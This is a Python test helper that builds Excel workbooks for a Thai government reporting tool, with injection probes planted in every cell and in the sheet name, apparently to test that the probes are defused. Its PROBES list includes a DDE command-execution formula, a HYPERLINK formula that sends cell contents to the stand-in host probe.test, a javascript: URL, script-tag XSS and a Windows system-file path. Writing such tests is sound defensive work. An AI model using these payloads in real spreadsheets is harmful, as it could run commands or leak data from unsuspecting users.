"""Texts that other programs take for more than texts, planted in every field of a workbook."""

from __future__ import annotations

import os
import re
from collections.abc import Iterable
from dataclasses import replace
from functools import cache
from html import escape
from io import BytesIO
from zipfile import ZipFile

import factory
from factory import Spot
from hostile import package
from openpyxl import load_workbook

from ita_sheets import schema
from ita_sheets.entries import read_record
from ita_sheets.fiscal import FiscalYear
from ita_sheets.model import SourceLine
from ita_sheets.render.template import template

NUMBER = 7_654_321  # found in no workbook but where a probe became a number
PROBES = {
    "formula": "=1+1",
    "plus": f"+{NUMBER}",
    "minus": f"-{NUMBER}",
    "at": "@SUM(A1:A9)",
    "link formula": '=HYPERLINK("http://probe.test/?x="&A1,"คลิก")',
    "array formula": "{=1+1}",
    "dde": "=cmd|' /C calc'!A0",
    "quoted formula": "'=1",
    "tab and formula": "\t=1",
    "return and formula": "\r=1",
    "line and formula": "\n=1+1",
    "full width": "＝1+1",
    "web address": "http://probe.test/a?b=1&c=2",
    "mail address": "mailto:probe@probe.test",
    "script address": "javascript:alert(1)",
    "file address": "file:///C:/Windows/win.ini",
    "another computer": "\\\\probe.test\\share\\a.xlsx",
    "address inside": "internal:'มาตรการ'!A1",
    "external": "external:probe.xlsx#A1",
    "exponent": f"{NUMBER}e0",
    "leading zeros": f"00{NUMBER}",
    "truth": "TRUE",
    "error": "#N/A",
    "missing reference": "#REF!",
    "script": "<script>alert('ก')</script>",
    "entity": "&lt;b&gt; &amp;nbsp;",
    "close of a text": "]]></t></si></sst>",
    "ready-made run": "<r><t>ก</t></r>",
    "field": "{{x}} {0} %s ${x}",
    "escape of Excel": "_x000D_ _x0000_ก",
    "control characters": "ก\x00\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x9bข",
    "turned around": "\u202eกข\u2066ค",
    "codes of a page's head": "&Z&F&D &G",
    "halves of a pair": "ก_xD83D_ข",
}
CELLS, SHEET = "PROBEINCELLS", "PROBEINSHEET"
NOT_IN_SHEETS = re.compile(r"[\[\]:*?/\\\x00-\x1f\x7f-\x9f]|^'|'$")
NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\r\ufffe\uffff]")
NOT_IN_NAMES = re.compile(r'[\x00-\x1f<>:"/\\|?*]' if os.name == "nt" else r"[/\x00]")


@cache
def _planted(be: int) -> tuple[dict[str, bytes], int]:
    """The parts of a year's workbook with a mark in every field, and how many fields there are."""
    line = {"line": "1", "text": "ก"}
    source, _ = read_record(SourceLine, schema.SOURCE, line, factory.nowhere, factory.YEAR)
    report = replace(factory.report({"fiscal_year": str(be)}), source=(source,))
    workbook = load_workbook(BytesIO(template(FiscalYear(be), report, created=factory.CREATED)))
    count = 0
    for sheet in schema.SHEETS:
        spot = Spot(workbook, sheet)
        for column in sheet.columns:
            if column is not schema.FISCAL_YEAR:
                spot.cell(column).value = CELLS
                count += 1
    measures = Spot(workbook, schema.MEASURES)
    last = measures.sheet.max_column + 1
    outside = (
        measures.sheet.cell(measures.header_row, last),  # a header of the office's own
        measures.sheet.cell(measures.header_row + 1, last),
        measures.sheet.cell(measures.last_row + 3, 3),  # below the table
        workbook[schema.COVER_TAB.th].cell(40, 1),
        workbook.create_sheet(SHEET).cell(1, 1),
    )
    for cell in outside:
        cell.value = CELLS
    with ZipFile(BytesIO(factory.saved(workbook))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return parts, count + len(outside) + 1


def fields() -> int:
    """How many fields of a workbook hold the probe, the sheet's name among them."""
    return _planted(2567)[1]


def probed(probe: str, be: int = 2567) -> bytes:
    """The sound workbook of that year with the probe in every field, as Excel itself writes it."""
    cells, sheet = in_xml(probe).encode(), sheet_name(probe).encode()
    parts = _planted(be)[0].items()
    return package(
        {name: data.replace(CELLS.encode(), cells).replace(SHEET.encode(), sheet) for name, data in parts}
    )


def in_xml(text: str) -> str:
    """The text as Excel writes it into a part."""
    text = re.sub("_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", text)
    return NOT_IN_XML.sub(lambda match: f"_x{ord(match[0]):04X}_", escape(text))


def sheet_name(probe: str) -> str:
    return escape(NOT_IN_SHEETS.sub("", probe)[:31] or "ก")


def file_name(probe: str) -> str:
    """The probe as a file's name, as far as this system takes it."""
    return f"{NOT_IN_NAMES.sub('', probe)}.xlsx"


def visible(probe: str) -> str:
    """What a person sees of the probe, without spaces."""
    return "".join(re.sub("[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u206f]", "", probe).split())


def lines(probe: str) -> Iterable[str]:
    """A report as text with the probe in its table, its head and its lines."""
    one_line = " ".join(re.sub("[\x00-\x1f\x7f-\x9f]", " ", probe).split()) or "ก"
    yield from (f"ส่วนราชการ {one_line}", f"เรื่อง รายงานผล {one_line} ปีงบประมาณ พ.ศ. 2567", one_line, "")
    yield f"มาตรการ/กิจกรรม\tสรุปผลการดำเนินการ\tผลลัพธ์\t{one_line}"
    yield "\t".join([one_line] * 4)
    yield "จัดทำคู่มือ\tติดประกาศแล้ว\tผู้รับบริการ 318 ราย\tก"
